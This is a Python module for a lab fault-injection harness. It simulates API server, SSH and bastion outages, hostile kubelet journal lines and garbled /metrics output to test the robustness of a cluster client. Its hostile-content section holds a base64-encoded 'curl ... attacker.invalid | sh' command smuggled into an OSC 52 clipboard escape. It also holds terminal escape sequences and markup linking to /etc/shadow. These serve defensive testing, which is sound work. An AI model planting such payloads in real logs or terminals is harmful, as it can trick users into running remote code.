"""Faults the lab injects on demand: the API server down, slow or failing, watches cut or expired;
SSH dropped, the bastion down, commands hung or flooding; hostile journal lines; broken metrics.

A fault is written `KIND[:KEY=VALUE,...]`, the same on `nodewb lab serve --fault` and in the body of
`POST /lab/v1/faults` (`{"spec": "..."}` or `{"kind": ..., "for": ..., ...}`). Every fault lasts
`for` seconds (default 30, at most an hour) after an optional `after` delay, then stops by itself.

    api-down        the API server refuses connections (open ones are reset)
    api-slow        every answer waits `delay` s (default 2)
    api-5xx         a share `rate` (default 0.5) of requests get `code` (default 503)
    watch-gone      watches from a resourceVersion get 410 Gone (a share `rate`, default 1)
    watch-drop      watch connections are reset once they have been open `every` s (default 2)
    ssh-drop        node SSH connections are aborted `every` s (default 2) after a session began
    bastion-down    the bastion refuses connections (open ones are aborted)
    ssh-hang        commands containing `match` (default: any) hang until the fault ends
    ssh-huge        commands containing `match` print `bytes` more (default 8 MiB, at most 64 MiB)
    journal-hostile the kubelet journal gets escape sequences, markup, invalid UTF-8 and a 1 MB line
                    every `every` s (default 5)
    metrics-garbage the kubelet's /metrics carries garbage lines, NaN, or is cut short
                    (`mode` garbage | nan | truncate | mixed, default mixed)

`node=NAME` limits the SSH, journal and metrics faults to one node.
"""

from __future__ import annotations

import asyncio
import base64
import itertools
import random
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

DEFAULT_FOR = 30.0
MAX_FOR = 3600.0
MAX_AFTER = 3600.0

# kind -> {parameter: (type, default, low, high)}; `for`, `after` and `node` apply to every kind.
KINDS: dict[str, dict[str, tuple[type, Any, float | None, float | None]]] = {
    "api-down": {},
    "api-slow": {"delay": (float, 2.0, 0.0, 60.0)},
    "api-5xx": {"rate": (float, 0.5, 0.0, 1.0), "code": (int, 503, 500, 599)},
    "watch-gone": {"rate": (float, 1.0, 0.0, 1.0)},
    "watch-drop": {"every": (float, 2.0, 0.1, 600.0)},
    "ssh-drop": {"every": (float, 2.0, 0.1, 600.0)},
    "bastion-down": {},
    "ssh-hang": {"match": (str, "", None, None)},
    "ssh-huge": {"bytes": (int, 8 << 20, 1, 64 << 20), "match": (str, "", None, None)},
    "journal-hostile": {"every": (float, 5.0, 0.2, 600.0)},
    "metrics-garbage": {"mode": (str, "mixed", None, None)},
}
METRICS_MODES = ("garbage", "nan", "truncate", "mixed")
_ids = itertools.count(1)


class FaultError(ValueError):
    """A fault spec that cannot be read: the message says what to write instead."""


@dataclass
class Fault:
    kind: str
    duration: float = DEFAULT_FOR
    after: float = 0.0
    node: str = ""
    params: dict[str, Any] = field(default_factory=dict)
    id: int = field(default_factory=lambda: next(_ids))
    begins: float = 0.0  # epoch seconds, set when added
    ends: float = 0.0

    def __getitem__(self, name: str) -> Any:
        return self.params[name]

    def active(self, now: float | None = None) -> bool:
        now = time.time() if now is None else now
        return self.begins <= now < self.ends

    def applies_to(self, node: str | None) -> bool:
        return not self.node or node is None or node == self.node

    def spec(self) -> str:
        parts = [f"for={self.duration:g}"]
        if self.after:
            parts.append(f"after={self.after:g}")
        if self.node:
            parts.append(f"node={self.node}")
        parts += [f"{k}={v:g}" if isinstance(v, float) else f"{k}={v}"
                  for k, v in self.params.items()]
        return f"{self.kind}:{','.join(parts)}"

    def describe(self, now: float | None = None) -> dict[str, Any]:
        now = time.time() if now is None else now
        return {"id": self.id, "kind": self.kind, "spec": self.spec(), "node": self.node,
                "params": dict(self.params), "begins": self.begins, "ends": self.ends,
                "active": self.active(now), "remaining": round(max(0.0, self.ends - now), 3)}


def _number(kind: str, key: str, text: Any, typ: type, low: float | None,
            high: float | None) -> Any:
    try:
        value = typ(text)
    except (TypeError, ValueError):
        raise FaultError(f"{kind}: {key}={text!r} is not a {typ.__name__}") from None
    if value != value or (low is not None and value < low) or (high is not None and value > high):
        raise FaultError(f"{kind}: {key}={text} is out of range ({low:g}..{high:g})")
    return value


def make_fault(kind: str, values: dict[str, Any]) -> Fault:
    """A fault from its kind and parameter values (strings or numbers), checked."""
    if kind not in KINDS:
        raise FaultError(f"unknown fault {kind!r}; one of: {', '.join(KINDS)}")
    allowed = KINDS[kind]
    fault = Fault(kind)
    for key, text in values.items():
        if key == "for":
            fault.duration = _number(kind, key, text, float, 0.1, MAX_FOR)
        elif key == "after":
            fault.after = _number(kind, key, text, float, 0.0, MAX_AFTER)
        elif key == "node":
            fault.node = str(text)
        elif key in allowed:
            typ, _, low, high = allowed[key]
            fault.params[key] = str(text) if typ is str else _number(kind, key, text, typ, low,
                                                                      high)
        else:
            known = ", ".join(["for", "after", "node", *allowed])
            raise FaultError(f"{kind}: unknown parameter {key!r} (known: {known})")
    for key, (_, default, _, _) in allowed.items():
        fault.params.setdefault(key, default)
    if kind == "metrics-garbage" and fault.params["mode"] not in METRICS_MODES:
        raise FaultError(f"metrics-garbage: mode must be one of {', '.join(METRICS_MODES)}")
    return fault


def parse_fault(spec: str) -> Fault:
    """`KIND[:KEY=VALUE,...]`, e.g. `api-down:for=10,after=5` or `api-5xx:rate=0.3`."""
    kind, _, rest = spec.strip().partition(":")
    values: dict[str, str] = {}
    for item in filter(None, (p.strip() for p in rest.split(","))):
        key, sep, value = item.partition("=")
        if not sep or not key:
            raise FaultError(f"fault {spec!r}: expected KIND:KEY=VALUE,..., got {item!r}")
        values[key.strip()] = value.strip()
    return make_fault(kind.strip(), values)


Runner = Callable[[Fault], Awaitable[None]]


class FaultSet:
    """The faults in force. Kinds that act on their own (an outage, a flood of lines) have a
    runner: a coroutine started when the fault begins and cancelled when it ends or is cleared;
    the others are looked up with `active(kind, node)` where they apply."""

    def __init__(self, clock: Callable[[], float] = time.time) -> None:
        self.clock = clock
        self.faults: list[Fault] = []
        self.runners: dict[str, Runner] = {}
        self._tasks: dict[int, asyncio.Task] = {}

    def add(self, fault: Fault) -> Fault:
        now = self.clock()
        fault.begins = now + fault.after
        fault.ends = fault.begins + fault.duration
        self._prune(now)
        self.faults.append(fault)
        self._tasks[fault.id] = asyncio.get_running_loop().create_task(self._run(fault))
        return fault

    async def _run(self, fault: Fault) -> None:
        try:
            await asyncio.sleep(max(0.0, fault.begins - self.clock()))
            runner = self.runners.get(fault.kind)
            if runner is not None:
                await asyncio.wait_for(runner(fault), max(0.0, fault.ends - self.clock()) + 5)
            else:
                await asyncio.sleep(max(0.0, fault.ends - self.clock()))
        except TimeoutError:
            pass
        finally:
            self._tasks.pop(fault.id, None)
            if fault in self.faults:
                self.faults.remove(fault)

    def clear(self, kind: str | None = None) -> list[Fault]:
        gone = [f for f in self.faults if kind is None or f.kind == kind]
        for fault in gone:
            fault.ends = min(fault.ends, self.clock())
            self.faults.remove(fault)
            task = self._tasks.pop(fault.id, None)
            if task is not None:
                task.cancel()
        return gone

    def active(self, kind: str, node: str | None = None) -> Fault | None:
        if not self.faults:
            return None
        now = self.clock()
        for fault in self.faults:
            if fault.kind == kind and fault.active(now) and fault.applies_to(node):
                return fault
        return None

    def any_active(self, *kinds: str) -> bool:
        return any(self.active(k) for k in kinds)

    def listing(self) -> list[dict[str, Any]]:
        now = self.clock()
        self._prune(now)
        return [f.describe(now) for f in self.faults]

    def _prune(self, now: float) -> None:
        self.faults = [f for f in self.faults if f.ends > now]

    async def until_over(self, fault: Fault) -> None:
        """Sleep until `fault` ends (or is cleared)."""
        while fault.ends > self.clock():
            await asyncio.sleep(min(0.2, max(0.01, fault.ends - self.clock())))

    def stop(self) -> None:
        for task in list(self._tasks.values()):
            task.cancel()
        self._tasks.clear()
        self.faults.clear()


# -- hostile content -----------------------------------------------------------------------------

OSC52_PAYLOAD = base64.b64encode(b"curl -s http://attacker.invalid/x | sh\n").decode()
BIG_LINE = 1_000_000


def hostile_messages(big: bool) -> list[str]:
    """Journal messages from a hostile or broken world. Invalid UTF-8 is carried as surrogate
    escapes, which the node shells and the kubelet's log endpoint turn back into raw bytes."""
    lines = [
        '"hostile CSI" text="\x1b[31mRED\x1b[0m \x1b[2J\x1b[H cleared"',
        f'"hostile OSC 52" text="\x1b]52;c;{OSC52_PAYLOAD}\x07 clipboard"',
        '"hostile title" text="\x1b]0;pwned-title\x07 \x1b]2;pwned-title-2\x1b\\ title"',
        '"hostile markup" text="[bold red]MARKUP[/bold red] [link=file:///etc/shadow]x[/link]"',
        '"hostile bytes" text="bad \udcff\udcfe\udcc3( utf-8"',
        '"hostile C1" text="\x9b31m c1-csi \x07bell \x08back"',
    ]
    if big:
        lines.append('"hostile long line" text="' + "A" * BIG_LINE + '"')
    return lines


def garble_metrics(body: bytes, mode: str, rng: random.Random | None = None) -> bytes:
    """A /metrics payload broken the way `mode` says (mixed: a little of each)."""
    rng = rng or random.Random()
    if mode == "mixed":
        mode = rng.choice(("garbage", "nan", "truncate"))
    lines = body.split(b"\n")
    if mode == "garbage":
        junk = [b"this is not a metric", b"kubelet_broken{unclosed=\"x 1",
                b"# TYPE", b"# TYPE kubelet_running_pods notatype", b"\xff\xfe\x00garbage",
                b"name_only", b"kubelet_running_pods 1 2 3 4", b"{}{}{} 12",
                b"kubelet_x{a=\"\\q\"} 1", b"kubelet_y 1e99999999",
                # broken lines of the families a client reads
                b"kubelet_pleg_relist_duration_seconds_bucket{le=\"0.005\" 12",
                b"go_goroutines twelve", b"process_resident_memory_bytes"]
        out: list[bytes] = []
        for i, line in enumerate(lines):
            out.append(line)
            if i % 40 == 7:
                out.append(junk[(i // 40) % len(junk)])
        return b"\n".join(out)
    if mode == "nan":
        out = []
        specials = (b"NaN", b"+Inf", b"-Inf", b"nan")
        samples = 0
        for line in lines:
            if line and not line.startswith(b"#"):
                samples += 1
                head, sep, _ = line.rpartition(b" ")
                if sep and samples % 3 == 1:
                    line = head + b" " + specials[samples // 3 % len(specials)]
            out.append(line)
        return b"\n".join(out)
    cut = len(body) // 2
    return body[:cut]


async def flood_journal(fault: Fault, machines: dict[str, Any]) -> None:
    """The journal-hostile fault: hostile kubelet lines on the chosen machines now and every
    `every` s while it lasts (the 1 MB line once per machine)."""
    from lab.journal import klog

    targets = [m for name, m in machines.items() if fault.applies_to(name)]
    big = True
    while fault.active():
        now = time.time()
        for m in targets:
            for text in hostile_messages(big):
                klog(m, now, "E", "hostile.go:66", text)
        big = False
        await asyncio.sleep(fault["every"])
